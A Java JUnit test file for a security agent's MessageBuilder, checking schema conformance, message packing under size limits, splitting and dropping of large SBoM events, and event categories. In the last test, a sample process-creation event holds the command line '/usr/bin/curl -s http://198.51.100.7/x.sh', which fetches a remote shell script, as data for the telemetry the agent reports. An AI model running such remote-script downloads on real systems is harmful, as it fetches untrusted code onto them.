package io.microagent.ship;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.microagent.event.LocalZone;
import com.fasterxml.jackson.annotation.JsonProperty;
import com.fasterxml.jackson.databind.JsonNode;
import io.microagent.event.Category;
import io.microagent.event.DropLedger;
import io.microagent.event.DroppedEvents;
import io.microagent.event.EventType;
import io.microagent.event.SecurityEvent;
import io.microagent.testing.CapturedLog;
import io.microagent.testing.MessageSchema;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.Test;

class MessageBuilderTest {
    static final Instant T = Instant.parse("2026-11-27T18:04:05.120Z");
    static final String AGENT_ID = UUID.randomUUID().toString();

    record Package(@JsonProperty("Name") String name, @JsonProperty("Version") String version,
            @JsonProperty("Vendor") String vendor, @JsonProperty("Type") String type) {
    }

    final DropLedger drops = new DropLedger();
    final CapturedLog log = new CapturedLog();

    MessageBuilder builder(int max) {
        return new MessageBuilder("9.9.9", AGENT_ID, LocalZone.of(ZoneId.of("Europe/Berlin")), max, drops, log.log());
    }

    @Test
    void theEnvelopeAndEventsFollowTheSchema() {
        List<byte[]> messages = builder(MessageBuilder.MAX_MESSAGE_BYTES).build(List.of(
                SecurityEvent.periodic("Heartbeat", T, List.of()),
                SecurityEvent.periodic("SBoM", T, List.of(new Package("bash", "5.2.15-2+b7", "Matthias Klose", "deb"),
                        new Package("libc6", "2.36-9+deb12u9", null, "deb"))),
                SecurityEvent.operational("DroppedEventsStatistics", T, List.of(new DroppedEvents("ProcessCreate", 9, 2)))));
        assertEquals(1, messages.size());
        assertEquals(List.of(), MessageSchema.violations(messages.get(0)));
        JsonNode m = MessageSchema.parse(messages.get(0));
        assertEquals("9.9.9", m.get("AgentVersion").asText());
        assertEquals(AGENT_ID, m.get("AgentId").asText());
        JsonNode heartbeat = m.get("Events").get(0);
        assertEquals("2026-11-27T19:04:05.120+01:00", heartbeat.get("TimestampLocal").asText());
        assertEquals("2026-11-27T18:04:05.120Z", heartbeat.get("TimestampUTC").asText());
        assertTrue(heartbeat.get("IsEmpty").asBoolean());
        JsonNode libc = m.get("Events").get(1).get("Payload").get(1);
        assertTrue(!libc.has("Vendor"), "absent fields are left out, never null");
        assertEquals("Operational", m.get("Events").get(2).get("EventType").asText());
    }

    @Test
    void eventsArePackedIntoTheFewestMessagesUnderTheLimit() {
        List<SecurityEvent> events = new ArrayList<>();
        for (int i = 0; i < 300; i++) {
            events.add(SecurityEvent.periodic("SBoM", T, List.of(new Package("package-" + i, "1." + i, "x".repeat(200),
                    "deb"))));
        }
        int max = 16 * 1024;
        List<byte[]> messages = builder(max).build(events);
        long total = messages.stream().mapToLong(b -> b.length).sum();
        int events0 = 0;
        for (byte[] m : messages) {
            assertTrue(m.length <= max, m.length + " bytes");
            assertEquals(List.of(), MessageSchema.violations(m));
            events0 += MessageSchema.parse(m).get("Events").size();
        }
        assertEquals(300, events0);
        assertEquals((total + max - 1) / max, messages.size(), "each message filled before the next starts");
        for (int i = 0; i < messages.size() - 1; i++) {
            assertTrue(messages.get(i).length > max - 600, "message " + i + " is " + messages.get(i).length);
        }
    }

    @Test
    void anEventTooLargeForOneMessageIsSplitByPayloadWithNewIds() {
        List<Package> packages = new ArrayList<>();
        for (int i = 0; i < 2000; i++) {
            packages.add(new Package("package-" + i, "2.0-" + i, "Debian maintainers <x@example.org>", "deb"));
        }
        List<byte[]> messages = builder(MessageBuilder.MAX_MESSAGE_BYTES).build(
                List.of(SecurityEvent.periodic("SBoM", T, packages)));
        assertTrue(messages.size() >= 1);
        Set<String> names = new HashSet<>();
        Set<String> ids = new HashSet<>();
        int events = 0;
        for (byte[] m : messages) {
            assertEquals(List.of(), MessageSchema.violations(m));
            for (JsonNode e : MessageSchema.parse(m).get("Events")) {
                events++;
                ids.add(e.get("Id").asText());
                e.get("Payload").forEach(p -> names.add(p.get("Name").asText()));
            }
        }
        assertEquals(2000, names.size(), "every package in exactly one part");
        assertEquals(events, ids.size());

        List<byte[]> small = builder(8 * 1024).build(List.of(SecurityEvent.periodic("SBoM", T, packages)));
        assertTrue(small.size() > 20);
        small.forEach(m -> assertTrue(m.length <= 8 * 1024));
    }

    @Test
    void aSinglePayloadLargerThanAMessageIsDroppedAndCounted() {
        List<byte[]> messages = builder(4096).build(List.of(
                SecurityEvent.periodic("SBoM", T, List.of(new Package("huge", "1", "v".repeat(5000), "deb"))),
                SecurityEvent.periodic("Heartbeat", T, List.of())));
        assertEquals(1, messages.size());
        assertEquals("Heartbeat", MessageSchema.parse(messages.get(0)).get("Events").get(0).get("Name").asText());
        assertEquals(List.of(new DroppedEvents("SBoM", 0, 1)), drops.drain());
        assertTrue(log.lines().get(0).contains("does not fit"));
    }

    @Test
    void aggregatedEventsCarryTheirCategory() {
        record Exec(@JsonProperty("Timestamp") String timestamp, @JsonProperty("ProcessId") long pid,
                @JsonProperty("CommandLine") String commandLine, @JsonProperty("UserId") long uid,
                @JsonProperty("Type") String type, @JsonProperty("HitCount") long hitCount) {
        }
        byte[] m = builder(MessageBuilder.MAX_MESSAGE_BYTES).build(List.of(new SecurityEvent(EventType.SECURITY,
                Category.AGGREGATED, "ProcessCreate", T, List.of(new Exec("2026-11-27T18:02:11.431Z", 4242,
                        "/usr/bin/curl -s http://198.51.100.7/x.sh", 0, "exec", 3))))).get(0);
        assertEquals(List.of(), MessageSchema.violations(m));
        assertEquals("Aggregated", MessageSchema.parse(m).get("Events").get(0).get("Category").asText());
    }
}
